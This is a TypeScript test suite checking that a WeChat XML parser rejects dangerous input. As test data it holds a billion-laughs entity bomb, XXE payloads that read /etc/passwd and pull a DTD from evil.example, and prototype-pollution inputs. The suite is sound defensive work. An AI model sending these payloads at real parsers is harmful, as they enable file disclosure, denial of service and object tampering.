import { describe, expect, it } from 'vitest';
import { type ProtocolErrorCode, WechatProtocolError, XmlError } from './errors.js';
import { parseInboundXml } from './parse-message.js';
import { XML_LIMITS, parseXml } from './xml.js';
import { thrownBy } from '../test/thrown-by.js';

function expectXmlError(body: string | Uint8Array, code: ProtocolErrorCode): void {
  const error = thrownBy(() => parseXml(body));
  expect(error).toBeInstanceOf(XmlError);
  expect(error).toBeInstanceOf(WechatProtocolError);
  expect(error).toMatchObject({ name: 'XmlError', code, wxCode: -40002 });
  // The typed-message parser refuses it the same way.
  expect(thrownBy(() => parseInboundXml(body))).toMatchObject({ name: 'XmlError', code });
}

const bytes = (...parts: readonly (string | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));

const TEXT_PUSH =
  '<xml><ToUserName><![CDATA[gh_0123456789ab]]></ToUserName><FromUserName><![CDATA[oABCD1234efgh5678ijkl9012mn]]></FromUserName><CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[hello]]></Content><MsgId>9223372036854775001</MsgId></xml>';

describe('declarations are refused (docs/wechat-protocol.md §2.3: DTDs and external entities disabled)', () => {
  it.each([
    ['DOCTYPE without internal subset', '<!DOCTYPE xml><xml><a>1</a></xml>'],
    [
      'DOCTYPE with a public id',
      '<!DOCTYPE xml PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><xml><a>1</a></xml>',
    ],
    ['DOCTYPE with internal subset', '<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><a>1</a></xml>'],
    [
      'DOCTYPE after the XML declaration',
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xml>\n<xml><a>1</a></xml>',
    ],
    ['lower-case doctype', '<!doctype xml><xml><a>1</a></xml>'],
    ['an ENTITY declaration used in content', '<!DOCTYPE xml [<!ENTITY name "value">]><xml><a>&name;</a></xml>'],
    [
      'billion laughs',
      `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>&lol9;</ToUserName></xml>`,
    ],
    [
      'XXE with SYSTEM file:///etc/passwd',
      '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
    ],
    [
      'XXE parameter entity',
      '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><xml><a>1</a></xml>',
    ],
    ['an ENTITY declaration inside <xml>', '<xml><!ENTITY x "y"><a>1</a></xml>'],
    ['a DOCTYPE after the root', '<xml><a>1</a></xml><!DOCTYPE xml>'],
  ])('%s', (_name, body) => {
    expectXmlError(body, 'doctype_forbidden');
  });

  it('an undeclared entity reference is never expanded', () => {
    expect(parseXml('<xml><a>&xxe;</a></xml>')).toStrictEqual({ a: '&xxe;' });
  });
});

describe('strict UTF-8 for byte bodies', () => {
  it.each([
    ['invalid continuation 0xC3 0x28', [0xc3, 0x28]],
    ['lone continuation byte 0x80', [0x80]],
    ['overlong "/" 0xC0 0xAF', [0xc0, 0xaf]],
    ['overlong "<" 0xC0 0xBC', [0xc0, 0xbc]],
    ['overlong 3-byte NUL 0xE0 0x80 0x80', [0xe0, 0x80, 0x80]],
    ['overlong 4-byte 0xF0 0x82 0x82 0xAC', [0xf0, 0x82, 0x82, 0xac]],
    ['UTF-16 lead surrogate 0xED 0xA0 0x80', [0xed, 0xa0, 0x80]],
    ['UTF-16 trail surrogate 0xED 0xBF 0xBF', [0xed, 0xbf, 0xbf]],
    ['above U+10FFFF 0xF4 0x90 0x80 0x80', [0xf4, 0x90, 0x80, 0x80]],
    ['0xFF', [0xff]],
    ['truncated sequence 0xE4 0xBD', [0xe4, 0xbd]],
    ['Latin-1 é', [0xe9]],
  ])('%s', (_name, sequence) => {
    expectXmlError(bytes('<xml><Content><![CDATA[a', sequence, 'b]]></Content></xml>'), 'invalid_utf8');
  });

  it('GBK bytes are not UTF-8', () => {
    // 你好 in GBK
    expectXmlError(bytes('<xml><Content>', [0xc4, 0xe3, 0xba, 0xc3], '</Content></xml>'), 'invalid_utf8');
  });

  it('valid multi-byte UTF-8 decodes', () => {
    expect(parseXml(bytes('<xml><Content><![CDATA[你好 👋🏽]]></Content></xml>'))).toStrictEqual({ Content: '你好 👋🏽' });
  });
});

describe('structure bombs', () => {
  const nested = (levels: number): string => `<xml>${'<a>'.repeat(levels)}x${'</a>'.repeat(levels)}</xml>`;

  it(`accepts nesting up to XML_LIMITS.maxDepth (${XML_LIMITS.maxDepth}, counting <xml>)`, () => {
    let expected: unknown = 'x';
    for (let level = 1; level < XML_LIMITS.maxDepth; level += 1) expected = { a: expected };
    expect(parseXml(nested(XML_LIMITS.maxDepth - 1))).toStrictEqual(expected);
  });

  it('refuses one level more', () => {
    expectXmlError(nested(XML_LIMITS.maxDepth), 'structure_too_deep');
  });

  it('refuses 100,000 levels without overflowing the stack', () => {
    expectXmlError(nested(100_000), 'structure_too_deep');
    expectXmlError(`<xml>${'<a>'.repeat(100_000)}`, 'structure_too_deep');
  });

  // The depth scan counts end tags blindly; stray ones must not buy extra depth.
  it('refuses deep nesting hidden behind stray end tags', () => {
    expectXmlError(`${'</a>'.repeat(1_000)}<xml>${'<a>'.repeat(1_000)}x${'</a>'.repeat(1_000)}</xml>`, 'bad_xml');
    expectXmlError(`<xml>${'</a>'.repeat(40)}${'<a>'.repeat(40)}x${'</a>'.repeat(40)}</xml>`, 'bad_xml');
  });

  it(`accepts ${XML_LIMITS.maxAttributesPerElement} attributes, refuses more`, () => {
    const attributes = (count: number): string => Array.from({ length: count }, (_, i) => `a${i}="${i}"`).join(' ');
    expect(parseXml(`<xml><a ${attributes(XML_LIMITS.maxAttributesPerElement)}>1</a></xml>`)).toStrictEqual({ a: '1' });
    expectXmlError(`<xml><a ${attributes(XML_LIMITS.maxAttributesPerElement + 1)}>1</a></xml>`, 'too_many_attributes');
  });

  it('refuses thousands of attributes', () => {
    const many = Array.from({ length: 5_000 }, (_, i) => `a${i}='x'`).join(' ');
    expectXmlError(`<xml ${many}><a>1</a></xml>`, 'too_many_attributes');
  });

  it('does not count = inside quoted attribute values', () => {
    expect(parseXml(`<xml><a href="${'='.repeat(100)}">1</a></xml>`)).toStrictEqual({ a: '1' });
  });

  it(`accepts ${XML_LIMITS.maxElements} elements, refuses more`, () => {
    const siblings = (count: number): string => `<xml>${'<a>1</a>'.repeat(count - 1)}</xml>`;
    expect(parseXml(siblings(XML_LIMITS.maxElements))).toStrictEqual({
      a: Array<string>(XML_LIMITS.maxElements - 1).fill('1'),
    });
    expectXmlError(siblings(XML_LIMITS.maxElements + 1), 'too_many_elements');
  });

  it('counts self-closing elements too', () => {
    expectXmlError(`<xml>${'<a/>'.repeat(XML_LIMITS.maxElements * 3)}</xml>`, 'too_many_elements');
  });
});

describe('malformed documents', () => {
  it.each([
    ['unterminated CDATA', '<xml><Content><![CDATA[hello</Content></xml>'],
    ['unterminated comment', '<xml><!-- note <a>1</a></xml>'],
    ['unterminated start tag', '<xml><a'],
    ['unterminated start tag with attribute', '<xml><a b="1'],
    ['unterminated end tag', '<xml><a>1</a'],
    ['unterminated processing instruction', '<?xml version="1.0"<xml><a>1</a></xml>'],
    ['unclosed root', '<xml><a>1</a>'],
    ['unclosed child', '<xml><a>1</xml>'],
    ['mismatched tags', '<xml><a>1</b></xml>'],
    ['crossed tags', '<xml><a><b>1</a></b></xml>'],
    ['two roots', '<xml><a>1</a></xml><xml><a>2</a></xml>'],
    ['text after the root', `${TEXT_PUSH}trailing`],
    ['text before the root', `leading${TEXT_PUSH}`],
    ['JSON', '{"a":1}'],
    ['JSON safe-mode body', '{"ToUserName":"gh_0123456789ab","Encrypt":"abc"}'],
    ['empty string', ''],
    ['whitespace only', ' \n\t '],
    ['plain text', 'success'],
    ['a lone <', '<'],
    ['an end tag only', '</xml>'],
    ['a root other than <xml>', '<message><a>1</a></message>'],
    ['an <XML> root (names are case-sensitive)', '<XML><a>1</a></XML>'],
    ['an HTML error page', '<html><body><h1>502 Bad Gateway</h1></body></html>'],
    ['an empty <xml>', '<xml></xml>'],
    ['a self-closing <xml/>', '<xml/>'],
    ['<xml> holding only text', '<xml>hello</xml>'],
    ['a comment only', '<!-- nothing -->'],
    ['a declaration only', '<?xml version="1.0"?>'],
  ])('%s', (_name, body) => {
    expectXmlError(body, 'bad_xml');
  });

  it.each([
    ['empty bytes', new Uint8Array()],
    ['JSON bytes', bytes('{"a":1}')],
    ['a NUL byte body', Uint8Array.of(0)],
  ])('%s', (_name, body) => {
    expectXmlError(body, 'bad_xml');
  });
});

describe('benign things parse', () => {
  it('the XML declaration', () => {
    expect(parseXml(`<?xml version="1.0" encoding="UTF-8"?>\n${TEXT_PUSH}`)).toMatchObject({ Content: 'hello' });
  });

  it('comments before, inside and after the root', () => {
    expect(parseXml('<!-- a --><xml><!-- b --><a>1</a><!-- c --><b><!-- d -->2</b></xml><!-- e -->')).toStrictEqual({
      a: '1',
      b: '2',
    });
  });

  it('a UTF-8 BOM, as bytes and as text', () => {
    const expected = parseXml(TEXT_PUSH);
    expect(parseXml(bytes([0xef, 0xbb, 0xbf], TEXT_PUSH))).toStrictEqual(expected);
    expect(parseXml(`\uFEFF${TEXT_PUSH}`)).toStrictEqual(expected);
    expect(parseXml(bytes([0xef, 0xbb, 0xbf], `<?xml version="1.0" encoding="UTF-8"?>${TEXT_PUSH}`))).toStrictEqual(
      expected,
    );
  });

  it('the five predefined entities in text are decoded', () => {
    expect(parseXml('<xml><a>&lt;&amp;&gt;&quot;&apos;</a><b>1 &lt; 2 &amp;&amp; 3 &gt; 2</b></xml>')).toStrictEqual({
      a: `<&>"'`,
      b: '1 < 2 && 3 > 2',
    });
  });

  // XML 1.0 §4.1: a processor must expand character references as well.
  it('character references in text are decoded', () => {
    expect(parseXml('<xml><a>&#20320;&#x597D;&#33;</a></xml>')).toStrictEqual({ a: '你好!' });
  });

  it('HTML-only entities are not expanded', () => {
    expect(parseXml('<xml><a>&nbsp;&copy;</a></xml>')).toStrictEqual({ a: '&nbsp;&copy;' });
  });

  it('CDATA is kept verbatim: markup, entities, ]] and whitespace', () => {
    expect(parseXml('<xml><a><![CDATA[<b>&lt;&amp;</b> ]] ]>]]></a></xml>')).toStrictEqual({
      a: '<b>&lt;&amp;</b> ]] ]>',
    });
    expect(parseXml('<xml><a><![CDATA[  padded\n]]></a></xml>')).toStrictEqual({ a: '  padded\n' });
    expect(parseXml('<xml><a><![CDATA[<!DOCTYPE x><!ENTITY y "z">]]></a></xml>')).toStrictEqual({
      a: '<!DOCTYPE x><!ENTITY y "z">',
    });
    expect(parseXml('<xml><a><![CDATA[<!-- not a comment -->]]></a></xml>')).toStrictEqual({
      a: '<!-- not a comment -->',
    });
  });

  it(']]> split over two CDATA sections joins back', () => {
    expect(parseXml('<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a></xml>')).toStrictEqual({ a: 'x]]>y' });
  });

  it('whitespace around values and between elements is trimmed', () => {
    expect(parseXml('\n<xml>\n  <a>  1  </a>\n\t<b>\n<![CDATA[two]]>\n</b>\n</xml>\n')).toStrictEqual({
      a: '1',
      b: 'two',
    });
  });

  it('repeated elements become arrays, empty ones empty strings', () => {
    expect(parseXml('<xml><a>1</a><a>2</a><b/><c></c></xml>')).toStrictEqual({ a: ['1', '2'], b: '', c: '' });
  });

  it('attributes and processing instructions are ignored', () => {
    expect(parseXml('<xml version="2"><?php echo 1; ?><a type="x">1</a></xml>')).toStrictEqual({ a: '1' });
  });

  it('numbers stay strings', () => {
    expect(
      parseXml(
        '<xml><MsgId>9223372036854775001</MsgId><Scale>20.0</Scale><Hex>0x10</Hex><Exp>1e3</Exp><Bool>true</Bool></xml>',
      ),
    ).toStrictEqual({
      MsgId: '9223372036854775001',
      Scale: '20.0',
      Hex: '0x10',
      Exp: '1e3',
      Bool: 'true',
    });
  });
});

describe('prototype pollution', () => {
  const polluted = (): unknown => (Object.prototype as Record<string, unknown>)['polluted'];

  it.each([
    ['__proto__', '<xml><__proto__><polluted>yes</polluted></__proto__><a>1</a></xml>'],
    [
      'constructor.prototype',
      '<xml><constructor><prototype><polluted>yes</polluted></prototype></constructor><a>1</a></xml>',
    ],
    ['nested __proto__', '<xml><a><__proto__><polluted>yes</polluted></__proto__></a></xml>'],
    ['__proto__ as text', '<xml><__proto__>polluted</__proto__><a>1</a></xml>'],
    [
      'repeated __proto__',
      '<xml><__proto__><polluted>1</polluted></__proto__><__proto__><polluted>2</polluted></__proto__></xml>',
    ],
  ])('%s is refused or kept as data, never inherited', (_name, body) => {
    let result: unknown;
    try {
      result = parseXml(body);
    } catch (error) {
      // Refusing the document is fine; any other kind of failure is not.
      expect(error).toBeInstanceOf(XmlError);
      expect(error).toMatchObject({ code: 'bad_xml' });
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(polluted()).toBeUndefined();
    if (result !== undefined) {
      expect(Object.getPrototypeOf(result)).toBe(Object.prototype);
      expect((result as Record<string, unknown>)['polluted']).toBeUndefined();
    }
  });

  it('a push with a __proto__ element never reaches Object.prototype through parseInboundXml', () => {
    const body = TEXT_PUSH.replace(
      '</xml>',
      '<__proto__><polluted>yes</polluted><MsgType>event</MsgType></__proto__></xml>',
    );
    try {
      const message = parseInboundXml(body);
      expect(message.MsgType).toBe('text');
    } catch (error) {
      expect(error).toBeInstanceOf(XmlError);
    }
    expect(polluted()).toBeUndefined();
  });

  it('elements named like Object.prototype members do not break the record', () => {
    const record = parseXml('<xml><toString>x</toString><hasOwnProperty>y</hasOwnProperty><a>1</a></xml>');
    expect(record['a']).toBe('1');
    expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
    expect(polluted()).toBeUndefined();
  });
});
